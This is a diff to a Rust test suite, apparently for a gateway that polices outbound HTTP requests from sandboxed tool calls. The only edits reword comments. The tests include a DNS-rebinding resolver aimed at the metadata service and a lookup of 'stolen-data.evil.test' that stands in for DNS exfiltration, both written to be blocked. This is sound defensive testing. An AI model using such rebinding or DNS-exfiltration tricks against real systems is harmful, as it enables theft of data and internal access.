@@ -1,5 +1,5 @@
-//! Requests over HTTP from inside a call: decided, recorded, pinned, bounded, and never with a secret in
-//! what comes back.
+//! HTTP requests from inside a call: decided, recorded, pinned, bounded, and never with a secret in the
+//! response.
 
 use std::{
     io::Write as _,
@@ -66,7 +66,7 @@ permit (principal == Tollgate::Component::"hostile", action == Tollgate::Action:
 when { context.host == Tollgate::Host::"site.test" };
 "#;
 
-/// Every name is this machine, unless the story says otherwise.
+/// Every name resolves to this machine, unless the story sets another address.
 fn world(policies: &str) -> World {
     let mut world = World::new(policies);
     world.resolver = Resolver::new(|_| Ok(vec![[127, 0, 0, 1].into()]));
@@ -273,7 +273,7 @@ async fn a_name_is_resolved_once_and_what_was_decided_is_connected_to() {
     let server = Server::start(vec![("/", ok("content-type: text/plain\r\n", "here"))]).await;
     let lookups = Arc::new(AtomicUsize::new(0));
     let counted = Arc::clone(&lookups);
-    // The first answer passes, every later one would lead to the metadata service.
+    // The first answer passes; every later one would lead to the metadata service.
     world.resolver = Resolver::new(move |name| {
         let first = counted.fetch_add(1, Ordering::SeqCst) == 0;
         Ok(match name {
@@ -298,7 +298,7 @@ async fn a_name_is_resolved_once_and_what_was_decided_is_connected_to() {
         Some("127.0.0.1")
     );
 
-    // One address of two in a private network is one too many.
+    // If one of two addresses is private, the request is denied.
     let url = server.url("public.test", "/").replace("http:", "https:");
     let arguments = format!(r#"{{"url":"{url}"}}"#);
     let mixed = call(&gate, "r2", "web__fetch", &arguments).await;
@@ -307,7 +307,7 @@ async fn a_name_is_resolved_once_and_what_was_decided_is_connected_to() {
         "{:?}",
         failure(&mixed)
     );
-    // What no policy permits is not even looked up: a name can carry data out.
+    // A name that no policy permits is not even looked up, because a lookup can carry data out.
     let before = lookups.load(Ordering::SeqCst);
     let leak = get("r3", "stolen-data.evil.test").await;
     assert_eq!(failure(&leak).0, FailureKind::Denied);
@@ -316,7 +316,7 @@ async fn a_name_is_resolved_once_and_what_was_decided_is_connected_to() {
     gate.close().await;
 }
 
-/// Whatever the policies say, the operator must have named a host in a private network.
+/// Regardless of policies, the operator must have allowed a host in a private network.
 #[tokio::test(flavor = "multi_thread")]
 async fn private_networks_need_the_operators_word_too() {
     let world = world(
@@ -408,7 +408,7 @@ async fn a_secret_goes_out_and_never_comes_back() {
     assert!(asked[1].contains(&format!("x-key: {SECRET}\r\n")));
     assert!(asked[2].contains("token=tok_5up3r%2Fs3cret%2Bvalue%3D%3D"));
     assert!(asked[3].contains(&format!(r#"{{"auth":{{"token":"{SECRET}"}}}}"#)));
-    // Nor is it in any record, the guest's own log lines among them.
+    // It is not in any record either, including the guest's own log lines.
     let mut logged = 0;
     for run in runs {
         for record in records(&gate, run) {
@@ -516,7 +516,7 @@ async fn what_comes_back_is_bounded() {
         ("/endless", "larger than the host allows"),
         ("/header", "larger than the host allows"),
         ("/line", "larger than the host allows"),
-        ("/short", "before its answer was whole"),
+        ("/short", "before its answer was complete"),
         ("/garbage", "is not HTTP"),
     ] {
         let arguments = format!(r#"{{"url":"{}"}}"#, server.url("site.test", path));
@@ -572,7 +572,7 @@ async fn a_server_that_says_nothing_holds_nobody_else_up() {
     gate.close().await;
 }
 
-/// A call that is ended takes its request with it.
+/// If a call is stopped, its request is stopped as well.
 #[tokio::test(flavor = "multi_thread")]
 async fn a_request_ends_with_its_call() {
     let world = world("");
@@ -581,7 +581,7 @@ async fn a_request_ends_with_its_call() {
     let gate = world.open().await;
     let arguments = format!(r#"{{"url":"{}"}}"#, server.url("site.test", "/silent"));
     let answer = call(&gate, "r", "hostile__send_request", &arguments).await;
-    // The tool has a little time left to say what happened.
+    // The tool has a little time left to report the timeout.
     assert!(
         failure(&answer).1.contains("took too long"),
         "{:?}",
